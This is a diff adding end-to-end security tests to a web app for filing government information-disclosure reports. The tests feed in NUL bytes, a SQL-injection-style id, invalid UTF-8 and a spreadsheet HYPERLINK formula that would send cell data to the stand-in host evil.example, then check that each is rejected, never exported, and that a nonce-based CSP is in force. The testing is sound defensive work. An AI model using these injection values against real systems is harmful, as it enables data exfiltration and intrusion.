@@ -448,3 +448,94 @@ test('oversized requests are refused: a draft over the limit with 413, a server 
   expect([413, 500]).toContain(over.status);
   expect(over.text).not.toContain('当前密码不正确');
 });
+
+// --- hostile input (issue 11, items 4, 6 and 8) -----------------------------------------------------------------
+
+type OwnReport = Record<string, unknown> & { tables: { active: Record<string, unknown> }; parts: Record<string, string> };
+/** The clerk's own report as stored, and its version, learnt from the conflict a stale save (of seed 004) gets. */
+async function ownCurrent(): Promise<{ version: number; report: OwnReport }> {
+  const seed = JSON.parse(readFileSync(path.resolve('lib/domain/fixtures/seed-004.json'), 'utf8'));
+  const r = await fetch(`${base}/api/reports/${ids.own}/draft`, {
+    method: 'PUT', headers: { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, body: JSON.stringify({ baseVersion: 999_999, report: seed }),
+  });
+  return ((await r.json()) as { current: { version: number; report: OwnReport } }).current;
+}
+const putOwn = (body: BodyInit) => sendOnce(`${base}/api/reports/${ids.own}/draft`, 'PUT', { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, body);
+
+test('an id that is not a UUID, or holds NUL, is 404 on every page and route that takes one', async () => {
+  const urls = ['/reports/%00', '/reports/%00/history', '/reports/%00/preview', '/reports/%00/review', '/reports/%00/download/pdf', '/reports/not-a-uuid',
+    '/reports/not-a-uuid/review', "/reports/'%20OR%201=1--/history", '/reports/%F0%9F%98%80/download/docx'];
+  const answers: Record<string, string> = {};
+  for (const url of urls) answers[url] = await visit(url, cookies.clerk);
+  expect(answers).toEqual(Object.fromEntries(urls.map((u) => [u, 'notfound'])));
+  const put = await sendOnce(`${base}/api/reports/%00/draft`, 'PUT', { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, '{"baseVersion":1,"report":{}}');
+  expect(put.status).toBe(404);
+  const exports = await fetch(`${base}/api/exports?organ=%00&year=2025&format=csv`, { headers: { cookie: cookies.office! } });
+  expect(exports.status).toBe(404);
+});
+
+test('a year no report can have is 400 with a message naming 年度, not 500', async () => {
+  const r = await fetch(`${base}/api/exports?organ=${ids.district}&year=99999999999&subtree=1&format=csv`, { headers: { cookie: cookies.office! } });
+  expect(r.status).toBe(400);
+  expect(((await r.json()) as { error: string }).error).toContain('「年度」');
+  expect(await visit(`/office?organ=${ids.district}&year=99999999999`, cookies.office)).toBe('ok');
+  expect(await visit(`/office/rollup?organ=${ids.district}&year=99999999999`, cookies.office)).toBe('ok');
+});
+
+test('a draft body that is not UTF-8, or holds NUL or a lone surrogate, is 400 naming the field; nothing is stored', async () => {
+  const { version: before, report } = await ownCurrent();
+  const notUtf8 = Buffer.concat([Buffer.from('{"baseVersion":1,"report":{"parts":{"overview":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}}}')]);
+  const answers = [await putOwn(notUtf8)];
+  for (const [part, text] of [['overview', '公开\u0000'], ['other', '处理费\ud800']]) {
+    answers.push(await putOwn(JSON.stringify({ baseVersion: before, report: { ...report, parts: { ...report.parts, [part]: text } } })));
+  }
+  expect(answers.map((a) => [a.status, JSON.parse(a.text).error])).toEqual([
+    [400, '提交的内容不是有效的 UTF-8 文本'],
+    [400, expect.stringContaining('「一、总体情况」含有不可见的控制字符')],
+    [400, expect.stringContaining('「六、其他需要报告的事项」含有无法识别的残缺字符')],
+  ]);
+  expect((await ownCurrent()).version).toBe(before);
+});
+
+test('a formula typed into a cell is kept as pending input, never exported; exports and downloads are not cached', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
+  const { version, report } = await ownCurrent();
+  const inCell = { ...report, tables: { ...report.tables, active: { ...report.tables.active, licensing: formula } } };
+  const refused = await putOwn(JSON.stringify({ baseVersion: version, report: inCell }));
+  expect([refused.status, JSON.parse(refused.text).error]).toEqual([400, expect.stringContaining('第二十条第（五）项 / 行政许可 / 本年处理决定数量')]);
+  const pending = { ...inCell, tables: { ...report.tables, active: { ...report.tables.active, licensing: null } }, pendingInput: { 'active.licensing': formula } };
+  expect((await putOwn(JSON.stringify({ baseVersion: version, report: pending }))).status).toBe(200);
+  for (const format of ['csv', 'xlsx', 'json']) {
+    const r = await fetch(`${base}/api/exports?organ=${ids.town}&year=2093&format=${format}`, { headers: { cookie: cookies.clerk! } });
+    expect(r.status).toBe(200);
+    expect(r.headers.get('cache-control')).toContain('no-store');
+    expect(Buffer.from(await r.arrayBuffer()).toString('utf8')).not.toContain('HYPERLINK');
+  }
+  const download = await fetch(`${base}/reports/${ids.own}/download/docx`, { headers: { cookie: cookies.clerk! } });
+  expect(download.headers.get('cache-control')).toContain('no-store');
+});
+
+test("the editor runs under a CSP with a nonce and no 'unsafe-inline' for scripts: typing saves, no violation", async ({ page }) => {
+  const violations: string[] = [];
+  page.on('console', (m) => m.type() === 'error' && /Content Security Policy|CSP/i.test(m.text()) && violations.push(m.text()));
+  await page.addInitScript(() => document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`)));
+  const { version, report } = await ownCurrent();
+  const typed = { ...report, tables: { ...report.tables, active: { ...report.tables.active, licensing: null } }, pendingInput: { 'active.licensing': '=1+1' } };
+  expect((await putOwn(JSON.stringify({ baseVersion: version, report: typed }))).status).toBe(200);
+  await signInPage(page, 'clerk');
+  const response = await page.goto(`/reports/${ids.own}`);
+  const policy = response!.headers()['content-security-policy'] ?? '';
+  const scripts = policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src')) ?? '';
+  expect(scripts).toMatch(/'nonce-[A-Za-z0-9+/=]{16,}'/);
+  expect(scripts).not.toContain("'unsafe-inline'");
+  const nonce = /'nonce-([^']+)'/.exec(scripts)![1];
+  expect(await page.locator('script[nonce]').count()).toBeGreaterThan(0);
+  expect((await fetch(`${base}/reports/${ids.own}`, { headers: { cookie: cookies.clerk! } })).headers.get('content-security-policy')).not.toContain(nonce);
+  // Pending input is back in its cell, marked as VALUE-FORMAT; a number typed elsewhere saves.
+  const licensing = page.getByRole('textbox', { name: '第二十条第（五）项 / 行政许可 / 本年处理决定数量', exact: true });
+  await expect(licensing).toHaveValue('=1+1');
+  await expect(licensing).toHaveAttribute('aria-invalid', 'true');
+  await page.getByRole('textbox', { name: '第二十条第（六）项 / 行政处罚 / 本年处理决定数量', exact: true }).fill('12');
+  await expect(page.getByRole('status', { name: '保存状态' })).toContainText('已保存', { timeout: 15_000 });
+  expect(violations).toEqual([]);
+});
